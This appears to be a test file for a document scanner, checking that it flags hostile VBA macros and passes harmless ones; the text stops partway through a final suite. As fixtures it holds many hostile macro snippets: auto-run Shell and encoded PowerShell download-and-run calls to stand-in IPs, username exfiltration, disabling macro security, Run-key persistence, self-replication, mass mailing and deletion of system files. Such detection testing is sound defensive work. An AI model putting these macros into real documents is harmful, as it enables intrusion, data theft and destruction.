/** VBA projects are read wherever they are, and judged by what their macros do. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { readCompound } from '#inspect/codecs/compound.ts'
import { PROCEDURES_MAX } from '#inspect/programs/basic/program.ts'
import { LINES_MAX } from '#inspect/programs/basic/state.ts'
import { useInspector } from '#inspect/testing/inspector.ts'
import { EICAR } from '#inspect/testing/samples.ts'
import {
  cachedName,
  compiledLines,
  compiledLiteral,
  macroDocument,
  pack,
  writeVba,
} from '#inspect/testing/vba-writer.ts'
import { DIRECTORY_BYTES_MAX, readProject } from './project.ts'

const { inspect } = useInspector()

/** The findings about macros, with their severity, without the notice that there are any. */
function found(document: Uint8Array): string[] {
  const { findings, obstacle } = inspect(document)
  assert.equal(obstacle, null)
  return findings
    .filter(({ id }) => id.startsWith('Docvet.Vba.') && id !== 'Docvet.Vba.Present' && id !== 'Docvet.Vba.AutoStart')
    .map(({ id, severity }) => `${severity} ${id.slice('Docvet.Vba.'.length)}`)
}

const automatic = (body: string, rest = ''): Buffer => macroDocument(`Sub AutoOpen()\r\n${body}\r\nEnd Sub\r\n${rest}`)
const manual = (body: string, rest = ''): Buffer =>
  macroDocument(`Sub Button1_Click()\r\n${body}\r\nEnd Sub\r\n${rest}`)
const URLMON =
  'Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long) As Long\r\n'
const declared = (...names: string[]): string =>
  names
    .map((name) => `Private Declare PtrSafe Function ${name} Lib "kernel32" (ByVal a As LongPtr) As LongPtr\r\n`)
    .join('')

test('a library that can download and save, called by nothing, is a notice', () => {
  const library = `Function Rates()
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "https://example.com/rates.csv", False
h.send
Rates = h.responseText
End Function
Sub Save(b)
Set s = CreateObject("ADODB.Stream")
s.Write b
s.SaveToFile ThisWorkbook.Path & "\\a.png"
End Sub`
  const { findings } = inspect(macroDocument(library))
  assert.deepEqual(new Set(findings.map(({ severity }) => severity)), new Set(['notice']))
})

suite('hostile macros', () => {
  const cases: Record<string, [Uint8Array, string]> = {
    'Shell on opening': [automatic('Shell "calc.exe"'), 'malicious AutoProgram'],
    'Shell on opening, from characters': [
      automatic('Shell Chr(99) & Chr(97) & StrReverse("exe.cl")'),
      'malicious AutoProgram',
    ],
    'a shell object': [automatic('CreateObject("WScript.Shell").Run "cmd /c start x.bat", 0'), 'malicious AutoProgram'],
    'a shell object from pieces': [
      automatic(
        'Set w = CreateObject(Replace("W#Scr#ipt.Sh#ell", "#", ""))\nw.Run Join(Array("cm", "d /c x.bat"), ""), 0',
      ),
      'malicious AutoProgram',
    ],
    'the shell application': [
      automatic('CreateObject("Shell.Application").ShellExecute "explorer.exe", "http://192.0.2.1/"'),
      'malicious AutoProgram',
    ],
    WMI: [automatic('GetObject("winmgmts:").Get("Win32_Process").Create "notepad.exe"'), 'malicious AutoProgram'],
    'hidden PowerShell by a click': [manual('Shell "powershell -w hidden -c ls", 0'), 'malicious PowerShell'],
    'PowerShell from numbers': [
      automatic(
        `Dim s\nFor Each c In Array(${[...'powershell -nop -w hidden iex(iwr http://192.0.2.1/a)'].map((c) => c.charCodeAt(0) ^ 7).join(', ')})\ns = s & Chr(c Xor 7)\nNext\nShell s`,
      ),
      'malicious PowerShell',
    ],
    'a command that is computed from unknown numbers': [
      automatic('Dim s, c\nFor Each c In Range("A1:A9")\ns = s & Chr((c.Value - 7) / 3)\nNext\nShell s'),
      'malicious AutoProgram',
    ],
    'a command from any number of arguments': [
      automatic(
        'Shell Word("c", "al", "c.exe")',
        'Function Word(ParamArray p())\nFor i = 0 To UBound(p)\nWord = Word & p(i)\nNext\nEnd Function\n',
      ),
      'malicious AutoProgram',
    ],
    'a script in the start folder': [
      automatic(
        'Open Environ("APPDATA") & "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs" For Output As #1',
      ),
      'malicious AutoProgram',
    ],
    'a download of a program': [
      macroDocument(`${URLMON}Sub A()\nURLDownloadToFile 0, "http://192.0.2.1/a.exe", "c:\\a.exe", 0, 0\nEnd Sub`),
      'malicious Downloader',
    ],
    'a download by XMLHTTP': [
      automatic(
        'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://192.0.2.1/a", False\nx.Send\nWith CreateObject("ADODB.Stream")\n.Type = 1\n.Open\n.Write x.responseBody\n.SaveToFile Environ("TEMP") & "\\a.exe", 2\nEnd With',
      ),
      'malicious Downloader',
    ],
    'a remote scriptlet': [manual('GetObject("script:http://192.0.2.1/a.sct")'), 'malicious Downloader'],
    'code in memory': [
      macroDocument(
        `${declared('VirtualAlloc', 'RtlMoveMemory', 'CreateThread')}Sub AutoOpen()\nx = VirtualAlloc(0)\nCreateThread x\nEnd Sub`,
      ),
      'malicious Injection',
    ],
    'code in memory by a callback': [
      macroDocument(
        `${declared('VirtualAlloc', 'RtlMoveMemory', 'EnumSystemLocalesA')}Sub A()\nx = VirtualAlloc(0)\nEnumSystemLocalesA x\nEnd Sub`,
      ),
      'malicious Injection',
    ],
    'macro security switched off': [
      automatic(
        'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings", 1, "REG_DWORD"',
      ),
      'malicious SecurityOff',
    ],
    'a script engine with text from a cell': [
      automatic('With CreateObject("ScriptControl")\n.Language = "JScript"\n.AddCode (Range("A1").Value)\nEnd With'),
      'malicious AutoProgram',
    ],
    'an unknown command': [automatic('Shell Range("A1").Value'), 'suspicious AutoExecute'],
    'an unknown command in an obfuscated macro': [
      automatic('Set w = CreateObject(StrReverse("llehS.tpircSW"))\nw.Run Range("A1").Value'),
      'malicious AutoProgram',
    ],
    'a Run key': [
      automatic(
        'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "a"',
      ),
      'malicious AutoPersistence',
    ],
    'a task that starts a program': [
      automatic(
        'Set s = CreateObject("Schedule.Service")\ns.Connect\nSet t = s.NewTask(0)\nSet a = t.Actions.Create(0)\na.Path = "power" & "shell.exe"\na.Arguments = "-c ls"\ns.GetFolder("\\").RegisterTaskDefinition "x", t, 6, , , 3',
      ),
      'malicious AutoProgram',
    ],
    'a task that starts a program, by a click': [
      manual('Set t = CreateObject("Schedule.Service").NewTask(0)\nSet a = t.Actions.Create(0)\na.Path = "calc.exe"'),
      'suspicious Persistence',
    ],
    'macros that copy themselves': [
      automatic(
        'Set s = ActiveDocument.VBProject.VBComponents(1).CodeModule\nSet d = NormalTemplate.VBProject.VBComponents.Item(1).CodeModule\nd.AddFromString s.Lines(1, s.CountOfLines)',
      ),
      'malicious Replication',
    ],
    'macros that copy themselves from the template': [
      automatic(
        'With NormalTemplate.VBProject.VBComponents(1).CodeModule\nActiveDocument.VBProject.VBComponents(1).CodeModule.InsertLines 1, .Lines(1, 99)\nEnd With',
      ),
      'malicious Replication',
    ],
    'macro security switched off by a profile text': [
      automatic(
        'System.PrivateProfileString("", "HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Word\\Security", "VBAWarnings") = 1&',
      ),
      'malicious SecurityOff',
    ],
    'an unknown method of an object of an unknown class': [
      automatic('Set w = CreateObject(Range("A1").Value & "." & Range("A2").Value)\nw.Run Range("A3").Value, 0'),
      'malicious AutoProgram',
    ],
    'a command in a property of a form': [
      automatic('Set w = CreateObject(UserForm1.A.Caption & "." & UserForm1.A.Tag)\nw.Run UserForm1.Caption, 0'),
      'malicious AutoProgram',
    ],
    'a command in a comment, backwards': [
      automatic('Shell StrReverse(ActiveDocument.Comments(1).Range.Text), 0'),
      'malicious AutoProgram',
    ],
    'a Run key by a click': [
      manual(
        'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "a"',
      ),
      'suspicious Persistence',
    ],
    'macros that copy themselves with a mark': [
      automatic(
        'Set s = ThisDocument.VBProject.VBComponents(1).CodeModule\nNormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString "MRK" & vbCr & s.Lines(1, s.CountOfLines)',
      ),
      'malicious Replication',
    ],
    'macros that copy themselves through a file': [
      automatic(
        'ThisWorkbook.VBProject.VBComponents("M").Export "C:\\m.bas"\nActiveWorkbook.VBProject.VBComponents.Import "c:\\" & "m.bas"',
      ),
      'malicious Replication',
    ],
    'macros that Word copies': [
      automatic(
        'Application.OrganizerCopy Source:=ActiveDocument.FullName, Destination:=NormalTemplate.FullName, Name:="M", Object:=wdOrganizerObjectProjectItems',
      ),
      'malicious Replication',
    ],
    'macros that Word 95 copies': [
      automatic('WordBasic.MacroCopy WordBasic.[FileName$]() + ":AutoOpen", "Global:AutoOpen"'),
      'malicious Replication',
    ],
    'a workbook in the start folder': [
      automatic('c = Application.StartupPath\nActiveWorkbook.SaveAs Filename:=c & "\\PERSONAL.XLS"'),
      'malicious Replication',
    ],
    'a workbook on every disk': [
      automatic(
        'Set f = CreateObject("Scripting.FileSystemObject")\nFor Each d In f.Drives\nf.CopyFile ThisWorkbook.FullName, d.Path & "\\a.xls"\nNext',
      ),
      'malicious Replication',
    ],
    'a mail to all contacts': [
      automatic(
        'Set o = CreateObject("Outlook.Application")\nFor Each c In o.Session.AddressLists(1).AddressEntries\nSet m = o.CreateItem(0)\nm.To = c.Address\nm.Attachments.Add ActiveDocument.FullName\nm.Send\nNext',
      ),
      'malicious MassMailer',
    ],
    'names for a numeric address': [
      automatic(
        'With CreateObject("MSXML2.XMLHTTP")\n.Open "GET", "http://192.0.2.1/?u=" & Environ("USERNAME"), True\n.send\nEnd With',
      ),
      'malicious Exfiltration',
    ],
    'names for a server': [
      automatic(
        'Set h = CreateObject("WinHttp.WinHttpRequest.5.1")\nh.Open "POST", "https://example.com/a"\nh.send Application.UserName & Environ("COMPUTERNAME")',
      ),
      'suspicious Beacon',
    ],
    'a file server on the internet': [automatic('x = Dir("\\\\192.0.2.1\\a")'), 'suspicious Beacon'],
    'a template for other documents': [
      automatic('For Each d In Documents\nd.AttachedTemplate = "http://192.0.2.1/a"\nNext'),
      'malicious Downloader',
    ],
    'a workbook with macros from the web': [
      automatic('Workbooks.Open "http://example.com/a.xlsm"'),
      'malicious Downloader',
    ],
    'an installer from the web': [
      automatic('CreateObject("WindowsInstaller.Installer").InstallProduct "http://example.com/a.msi"'),
      'malicious AutoProgram',
    ],
    'a style sheet from the web': [
      automatic(
        'Set x = CreateObject("MSXML2.DOMDocument")\nx.Load "http://192.0.2.1/a.xsl"\nCreateObject("MSXML2.DOMDocument").transformNode x',
      ),
      'malicious Downloader',
    ],
    'an event of the application': [
      macroDocument(
        'Dim WithEvents App As Word.Application\nPrivate Sub App_WindowDeactivate(ByVal a, ByVal b)\nShell "calc.exe"\nEnd Sub',
      ),
      'malicious AutoProgram',
    ],
    'a shortcut to an interpreter': [
      automatic(
        'Set l = CreateObject("WScript.Shell").CreateShortcut("c:\\a.lnk")\nl.TargetPath = "powershell.exe"\nl.Save',
      ),
      'malicious AutoProgram',
    ],
    'a subscription': [
      automatic(
        'Set c = GetObject("winmgmts:\\\\.\\root\\subscription").Get("CommandLineEventConsumer").SpawnInstance_\nc.CommandLineTemplate = "cmd /c x"\nc.Put_',
      ),
      'malicious AutoProgram',
    ],
    'a class of the system replaced': [
      automatic(
        'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Classes\\CLSID\\{0A29FF9E-7F9C-4437-8B11-F424491E3931}\\InprocServer32\\", "c:\\a.dll"',
      ),
      'malicious AutoPersistence',
    ],
    'a library in a temporary folder': [
      macroDocument(`${declared('LoadLibraryA')}Sub AutoOpen()\nLoadLibraryA Environ("TEMP") & "\\a.dll"\nEnd Sub`),
      'malicious AutoProgram',
    ],
    'a function of the scan interface that is looked up': [
      macroDocument(
        `${declared('GetProcAddress')}Sub AutoOpen()\nx = GetProcAddress(1, "Amsi" & "ScanBuffer")\nEnd Sub`,
      ),
      'malicious Injection',
    ],
    'files of Windows deleted': [automatic('Kill "C:\\Windows\\System32\\*.dll"'), 'malicious Destructive'],
    'a link that starts a program': [
      automatic('ActiveDocument.FollowHyperlink "ms-msdt:/id PCWDiagnostic"'),
      'malicious AutoProgram',
    ],
    'macros that start programs, written': [
      automatic(
        'ThisDocument.VBProject.VBComponents.Add(1).CodeModule.AddFromString "Sub x()" & vbCr & "She" & "ll ""calc"""',
      ),
      'malicious AutoProgram',
    ],
    'macros that write macros': [
      automatic('ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString "Sub A()"'),
      'suspicious SelfModifying',
    ],
    'a script that is written': [
      automatic('Open "c:\\a.vbs" For Output As #1\nPrint #1, "x"\nClose #1'),
      'suspicious Dropper',
    ],
    'a declared shell object with an unknown command': [
      automatic('Dim w As New IWshRuntimeLibrary.WshShell\nw.Run Range("A1").Value'),
      'suspicious AutoExecute',
    ],
    'WMI by a short moniker': [
      automatic('GetObject("winmgmts:Win32_Process").Create "notepad.exe"'),
      'malicious AutoProgram',
    ],
    'a command of Excel 4': [automatic('ExecuteExcel4Macro "EXEC(""calc.exe"")"'), 'malicious AutoProgram'],
    'numbered lines': [automatic('10 x = "calc"\n20 Shell x'), 'malicious AutoProgram'],
    'jumps over the end': [automatic('GoTo a\nExit Sub\na:\nShell "calc"'), 'malicious AutoProgram'],
    'a button that the macro clicks': [
      automatic('UserForm1.Ok.Value = True', 'Sub Ok_Click()\nShell "calc"\nEnd Sub'),
      'malicious AutoProgram',
    ],
    'a callback of the ribbon': [
      macroDocument('Sub Loaded(ribbon As IRibbonUI)\nShell "calc"\nEnd Sub'),
      'malicious AutoProgram',
    ],
    'hexadecimal digits': [
      automatic(
        'Shell H("706f7765727368656c6c202d6e6f70202d772068696464656e202d63206c73")',
        'Function H(s)\nFor i = 1 To Len(s) Step 2\nH = H & Chr(Val("&H" & Mid(s, i, 2)))\nNext\nEnd Function',
      ),
      'malicious PowerShell',
    ],
    'an event of a control': [
      macroDocument('Sub InkPicture1_Painted(ByVal a)\nShell "cmd /c x"\nEnd Sub'),
      'malicious AutoProgram',
    ],
    'a program after a date': [
      automatic('If Date < #1/1/2020# Then Exit Sub\nShell "cmd /c x"'),
      'malicious AutoProgram',
    ],
    'a program if a box is filled': [automatic('If TextBox1 <> "" Then Shell "cmd /c x"'), 'malicious AutoProgram'],
    'an object of .NET that is read from bytes': [
      automatic(
        'Set f = CreateObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter")\nSet o = f.Deserialize_2(s)',
      ),
      'malicious AutoProgram',
    ],
    'a program that the macro wrote': [
      automatic('Open "C:\\Data\\u.exe" For Binary As #1\nPut #1, , b\nClose #1\nShell "C:\\Data\\u.exe"'),
      'malicious AutoProgram',
    ],
    'a program that the macro wrote, beside the document': [
      automatic('s = ThisDocument.Path & "\\u.scr"\nOpen s For Binary As #1\nPut #1, , b\nClose #1\nShell s'),
      'malicious AutoProgram',
    ],
    'a program in a temporary folder, after a change': [
      macroDocument('Sub Worksheet_Change(ByVal t)\nShell Environ("TEMP") & "\\a.exe"\nEnd Sub'),
      'malicious AutoProgram',
    ],
    'a program in a temporary folder, after a question': [
      automatic('If MsgBox("Load?", vbYesNo) = vbYes Then Shell Environ("TEMP") & "\\a.exe"'),
      'malicious AutoProgram',
    ],
    'words from the environment': [
      automatic('Shell Mid(Environ("COMSPEC"), 21, 3) & " /c x"'),
      'malicious AutoProgram',
    ],
    'a command for an interpreter': [automatic('Shell "echo x | python"'), 'malicious AutoProgram'],
    'a program beside the document': [automatic('Shell ThisDocument.Path & "\\u.exe"'), 'suspicious AutoExecute'],
    'a library of another computer': [
      macroDocument('Declare Sub go Lib "\\\\203.0.113.7\\s\\a.dll" ()\nSub AutoOpen()\ngo\nEnd Sub'),
      'malicious AutoProgram',
    ],
    'a library in a public folder, under another name': [
      macroDocument('Declare Sub go Lib "C:\\Users\\Public\\a.txt" Alias "#1" ()\nSub AutoOpen()\ngo\nEnd Sub'),
      'malicious AutoProgram',
    ],
    'a library that is found in another folder': [
      macroDocument('Declare Sub go Lib "a.dll" ()\nSub AutoOpen()\nChDir Environ("TEMP")\ngo\nEnd Sub'),
      'malicious AutoProgram',
    ],
    'a verb of a file': [
      automatic('CreateObject("Shell.Application").Namespace(Environ("TEMP")).ParseName("a.exe").InvokeVerb "open"'),
      'malicious AutoProgram',
    ],
    'all documents of a user deleted': [
      automatic('Kill "C:\\Users\\" & Environ("USERNAME") & "\\Documents\\*.*"'),
      'malicious Destructive',
    ],
    'the document on a server without a name': [
      automatic('ActiveDocument.SaveAs "\\\\203.0.113.7\\share\\x.docx"'),
      'malicious Exfiltration',
    ],
    'the answer of a server as a command': [
      automatic(
        'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "https://example.com/c", False\nx.send\nShell Trim(x.responseText)',
      ),
      'malicious Downloader',
    ],
    'the answer of a server as a module': [
      automatic(
        'Set x = CreateObject("WinHttp.WinHttpRequest.5.1")\nx.Open "GET", "https://example.com/c"\nx.send\nThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString x.ResponseText',
      ),
      'malicious Downloader',
    ],
    'a workbook that closes': [
      macroDocument('Sub Workbook_BeforeClose(c)\nShell "cmd /c x"\nEnd Sub'),
      'malicious AutoProgram',
    ],
  }
  for (const [name, [document, expected]] of Object.entries(cases))
    test(name, () => assert.ok(found(document).includes(expected), found(document).join(', ') || 'nothing'))
})

suite('harmless macros', () => {
  const cases: Record<string, [Uint8Array, string[]]> = {
    'a message on opening': [automatic('MsgBox "Hello"'), []],
    'Shell in a comment': [automatic('\' Shell "cmd /c x"\nRem Shell "cmd /c x"'), []],
    'Shell in a text': [automatic('MsgBox "Shell ""cmd /c x"""'), []],
    'Shell by a click': [manual('Shell "notepad.exe c:\\a.txt"'), ['notice Execute']],
    'a copy to a server of the company by a click': [
      manual('Shell "cmd /c robocopy ""c:\\a"" ""\\\\nas01\\archive"" /E"'),
      ['notice Execute'],
    ],
    'a folder by a click': [manual('Shell "explorer.exe " & ThisWorkbook.Path, vbNormalFocus'), ['notice Execute']],
    'a shell object for a folder': [automatic('s = CreateObject("WScript.Shell").SpecialFolders("Desktop")'), []],
    'a profile text': [automatic('System.PrivateProfileString("c:\\a.ini", "Window", "Left") = 1'), []],
    'macros that are counted': [automatic('n = ThisDocument.VBProject.VBComponents(1).CodeModule.CountOfLines'), []],
    'the path of another object': [automatic('Set a = CreateObject("My.Settings")\na.Path = "c:\\a.exe"'), []],
    'a dictionary': [automatic('Set d = CreateObject("Scripting.Dictionary")\nd.Add "a", 1'), []],
    'an XML document': [automatic('Set d = CreateObject("Msxml2.DOMDocument.4.0")\nd.Load "a.xml"'), []],
    'another macro': [automatic('Application.Run "B"', 'Sub B()\nx = 1\nEnd Sub'), []],
    'a web request by a click': [
      manual(
        'Set x = CreateObject("WinHttp.WinHttpRequest.5.1")\nx.Open "GET", "https://example.com/rates"\nx.Send\nMsgBox x.ResponseText',
      ),
      ['notice Network'],
    ],
    'rates that are saved': [
      macroDocument(
        `${URLMON}Sub AutoOpen()\nURLDownloadToFile 0, "https://example.com/rates.csv", Environ("TEMP") & "\\rates.csv", 0, 0\nEnd Sub`,
      ),
      ['notice Network'],
    ],
    'functions for windows': [
      macroDocument(
        `${declared('FindWindowA', 'SendMessageA', 'RtlMoveMemory', 'GetTickCount')}Sub AutoOpen()\nx = GetTickCount(0)\nEnd Sub`,
      ),
      [],
    ],
    'a text file': [automatic('Open "c:\\log.txt" For Append As #1\nPrint #1, Now\nClose #1'), []],
    'quotes and lines by number': [automatic('MsgBox Chr(34) & "a" & Chr(34) & Chr(13) & Chr(10) & Chr(9)'), []],
    'a copy in another folder': [
      automatic(
        'FileCopy ThisWorkbook.FullName, "D:\\Backup\\" & ThisWorkbook.Name\nThisWorkbook.SaveCopyAs "D:\\a.xlsm"',
      ),
      [],
    ],
    'a mail to one address': [
      automatic(
        'Set m = CreateObject("Outlook.Application").CreateItem(0)\nm.To = "payroll@example.com"\nm.Attachments.Add ThisWorkbook.FullName\nm.Send',
      ),
      [],
    ],
    'a mail to all contacts by a click': [
      manual(
        'Set o = CreateObject("Outlook.Application")\nFor Each c In o.Session.AddressLists(1).AddressEntries\nSet m = o.CreateItem(0)\nm.To = c.Address\nm.Attachments.Add ActiveDocument.FullName\nm.Send\nNext',
      ),
      [],
    ],
    'a check of a licence': [
      automatic(
        'Set h = CreateObject("WinHttp.WinHttpRequest.5.1")\nh.Open "GET", "https://example.com/?user=" & Environ("USERNAME")\nh.send',
      ),
      ['notice Network'],
    ],
    'names for a server of the company': [
      automatic(
        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "POST", "http://intranet/usage"\nh.send Environ("USERNAME") & Environ("COMPUTERNAME")',
      ),
      ['notice Network'],
    ],
    'styles that Word copies': [
      automatic(
        'Application.OrganizerCopy Source:=NormalTemplate.FullName, Destination:=ActiveDocument.FullName, Name:="Heading 1", Object:=wdOrganizerObjectStyles',
      ),
      [],
    ],
    'modules exported on saving': [
      automatic('For Each c In ThisWorkbook.VBProject.VBComponents\nc.Export ThisWorkbook.Path & "\\" & c.Name\nNext'),
      [],
    ],
    'a shortcut to the workbook': [
      automatic(
        'Set w = CreateObject("WScript.Shell")\nSet l = w.CreateShortcut(w.SpecialFolders("Desktop") & "\\a.lnk")\nl.TargetPath = ThisWorkbook.FullName\nl.Save',
      ),
      [],
    ],
    'a document in a temporary folder': [
      automatic('CreateObject("Shell.Application").ShellExecute Environ("TEMP") & "\\offer.pdf"'),
      [],
    ],
    'a style sheet beside the workbook': [
      automatic(
        'Set x = CreateObject("MSXML2.DOMDocument")\nx.Load ThisWorkbook.Path & "\\a.xsl"\ny = CreateObject("MSXML2.DOMDocument").transformNode(x)',
      ),
      [],
    ],
    'a button of an add-in that shows a page': [
      automatic(
        'Application.CommandBars(1).Controls.Add(1).OnAction = "ShowHelp"',
        'Sub ShowHelp()\nThisWorkbook.FollowHyperlink "https://www.example.com/manual.html"\nEnd Sub',
      ),
      ['notice Network'],
    ],
    'temporary files deleted': [automatic('Kill Environ("TEMP") & "\\report_*.pdf"'), []],
    'libraries of Windows and of an installed program': [
      macroDocument(
        'Declare Sub Sleep Lib "kernel32" ()\nDeclare Sub go Lib "C:\\Program Files\\ERP\\a.dll" ()\nSub AutoOpen()\nChDir ThisWorkbook.Path\nSleep 1\ngo\nEnd Sub',
      ),
      [],
    ],
    'files of a program deleted': [automatic('Kill Environ("USERPROFILE") & "\\Documents\\ERP\\*.tmp"'), []],
    'the document on a server of the company': [automatic('ActiveDocument.SaveAs "\\\\nas01\\share\\x.docx"'), []],
    'the answer of a server in a cell, and as JSON by a click': [
      manual(
        'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "https://example.com/c", False\nx.send\nRange("A1") = x.responseText\nSet j = CreateObject("ScriptControl").Eval("(" & x.responseText & ")")',
      ),
      ['notice Network'],
    ],
    'a backup on closing': [
      macroDocument('Sub Workbook_BeforeClose(c)\nShell "xcopy C:\\a.xlsm D:\\b /Y", vbHide\nEnd Sub'),
      ['notice AutoCommand'],
    ],
    'a program of the company': [automatic('Shell "C:\\ERP\\client.exe /export"'), ['notice AutoCommand']],
    'a mail that is begun': [
      automatic('CreateObject("Shell.Application").ShellExecute "mailto:a@example.com"'),
      ['notice Network'],
    ],
    'a program after a question': [
      automatic('If MsgBox("Start?", vbYesNo) = vbYes Then Shell "calc.exe"'),
      ['notice Execute'],
    ],
    'a program after another answer': [
      automatic('Select Case MsgBox("Start?", vbYesNo)\nCase vbYes\nShell "calc.exe"\nEnd Select'),
      ['notice Execute'],
    ],
    ...Object.fromEntries(
      [
        'Worksheet_BeforeDoubleClick(ByVal t, c)',
        'Worksheet_FollowHyperlink(ByVal t)',
        'Worksheet_Change(ByVal t)',
        'ComboBox1_Change()',
        'Workbook_BeforePrint(c)',
      ].map((event) => [
        `a file by ${event}`,
        [macroDocument(`Sub ${event}\nShell "cmd /c start """" """ & t.Value & """"\nEnd Sub`), ['notice Execute']],
      ]),
    ),
    'a button beside an automatic macro': [
      automatic('x = 1', 'Sub Button1_Click()\nShell "cmd /c dir"\nEnd Sub'),
      ['notice Execute'],
    ],
  }
  for (const [name, [document, expected]] of Object.entries(cases))
    test(name, () => assert.deepEqual(found(document), expected))
})

suite('a batch file that the macro writes and starts', () => {
  const print = (...lines: string[]): Buffer =>
    automatic(
      `f = Environ("TEMP") & "\\job.bat"\nOpen f For Output As #1\n${lines.map((line) => `Print #1, ${line}`).join('\n')}\nClose #1\nShell f, 0`,
    )
  test('is a notice if all its lines are everyday commands', () => {
    assert.deepEqual(found(print('"@echo off"', '"xcopy C:\\Data D:\\Backup /s /y"', '"exit"')), ['notice AutoCommand'])
    const stream =
      'Set s = CreateObject("Scripting.FileSystemObject").CreateTextFile(f)\ns.WriteLine "robocopy C:\\Data D:\\Backup"\ns.Close'
    assert.deepEqual(found(automatic(`f = Environ("TEMP") & "\\a.cmd"\n${stream}\nShell f`)), ['notice AutoCommand'])
  })
  test('is malicious if one line is not, or is unknown', () => {
    for (const line of [
      '"start %TEMP%\\a.exe"',
      'Range("A1")',
      '"echo x > a.vbs & a.vbs"',
      '"powershell -w hidden -c ls"',
      'Chr(x) & "py a b"',
    ])
      assert.ok(
        found(print('"@echo off"', '"xcopy C:\\Data D:\\Backup"', line)).includes('malicious AutoProgram'),
        line,
      )
    assert.ok(found(print('"@echo off"')).includes('malicious AutoProgram'))
  })
  test('is malicious past the lines that are read', () => {
    const many = (count: number): string[] =>
      found(
        automatic(
          `f = Environ("TEMP") & "\\job.bat"\nOpen f For Output As #1\nFor i = 1 To ${count}: Print #1, "xcopy C:\\Data D:\\Backup": Next\nShell f`,
        ),
      )
    assert.ok(!many(LINES_MAX - 1).includes('malicious AutoProgram'))
    assert.ok(many(LINES_MAX).includes('malicious AutoProgram'))
  })
})

suite('projects', () => {
  const HOSTILE = 'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nShell "cmd /c x"\r\nEnd Sub\r\n'
  const isFound = (document: Uint8Array): boolean => found(document).includes('malicious AutoProgram')

  test('are read in documents and workbooks of Office 97 as well', () => {
    assert.ok(isFound(writeVba({ M: HOSTILE }, { root: 'Macros' })))
    assert.ok(isFound(writeVba({ M: HOSTILE }, { root: '_VBA_PROJECT_CUR' })))
  })
  test('with a wrong offset in the directory', () => {
    assert.ok(isFound(writeVba({ M: HOSTILE }, { declaredOffset: 7 })))
    assert.ok(isFound(writeVba({ M: HOSTILE.replace(/^.*\n/, '') }, { declaredOffset: 7 })))
  })
  test('with an unreadable directory', () => {
    assert.ok(isFound(writeVba({ M: HOSTILE }, { directory: Buffer.from('damaged') })))
    assert.ok(isFound(writeVba({ M: HOSTILE }, { directory: pack(Buffer.from('nonsense')) })))
  })
  test('with a module that the directory does not list', () => {
    const document = writeVba({ A: 'Attribute VB_Name = "A"\r\n' }, { unlisted: { M: HOSTILE } })
    assert.deepEqual(found(document), ['malicious AutoProgram', 'notice Hidden'])
  })
  test('with a module that the directory does not list, and that begins in another way', () => {
    const source = HOSTILE.replace(/^.*\n/, '')
    const raw = Buffer.alloc(4_096, ' ')
    raw.write(source)
    for (const name of ['M', 'PROJECT', 'f']) {
      assert.ok(isFound(writeVba({}, { unlisted: { [name]: source } })), name)
      assert.ok(isFound(writeVba({ [name]: source }, { directory: Buffer.from('damaged') })), name)
      const streams = { [`VBA/${name}`]: Buffer.concat([Buffer.alloc(99), Buffer.from([1, 0xff, 0x3f]), raw]) }
      assert.ok(isFound(writeVba({}, { streams })), name)
    }
    const data = Buffer.concat([Buffer.alloc(99), pack(Buffer.from('The substitute has no function.'))])
    assert.deepEqual(found(writeVba({}, { streams: { 'VBA/x': data } })), [])
  })
  test('of which a part is missing are refused', () => {
    const reasonOf = (document: Uint8Array) => inspect(document).obstacle?.reason ?? null
    const long = `Attribute VB_Name = "M"\r\n${`x = ${'1'.repeat(90)}\r\n`.repeat(90)}`
    const whole = writeVba({ M: long, N: long })
    assert.equal(reasonOf(whole), null)
    assert.equal(reasonOf(whole.subarray(0, whole.length - 6_000)), 'damaged')
    assert.equal(reasonOf(writeVba({ M: long }, { listed: ['M', 'Missing'] })), 'damaged')
  })
  test('without compiled code', () => {
    const none = { compiled: Buffer.alloc(0) }
    assert.deepEqual(found(writeVba({ M: HOSTILE }, none)), ['malicious AutoProgram', 'suspicious Purged'])
    assert.deepEqual(found(writeVba({ M: 'Sub A()\r\nEnd Sub\r\n' }, none)), [])
  })
  test('that contain macros are noticed', () => {
    assert.ok(inspect(macroDocument('Sub A()\nEnd Sub')).findings.some(({ id }) => id === 'Docvet.Vba.Present'))
  })
  test('are scanned by the rules', () => {
    assert.equal(inspect(macroDocument(`Sub A()\nx = "${EICAR}"\nEnd Sub`)).findings[0]?.id, 'Docvet.Test.Eicar')
    const encoded = Buffer.from(`${EICAR}\n`.repeat(40)).toString('base64')
    assert.equal(inspect(macroDocument(`Sub A()\nx = "${encoded}"\nEnd Sub`)).findings[0]?.id, 'Docvet.Test.Eicar')
  })
})

suite('compiled code', () => {
  const compiled = (...texts: string[]): Buffer =>
    Buffer.concat([Buffer.alloc(2_500), ...texts.map((text) => compiledLiteral(text)), Buffer.alloc(20)])
  const HARMLESS = 'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nMsgBox "Hello"\r\nEnd Sub\r\n'

  test('with a command that the source does not have', () => {
    const plan = { compiled: compiled('Hello', 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA') }
    assert.deepEqual(found(writeVba({ M: HARMLESS }, plan)), ['malicious Stomped'])
    assert.deepEqual(found(writeVba({ M: HARMLESS }, { compiled: compiled('WScript.Shell') })), ['malicious Stomped'])
  })
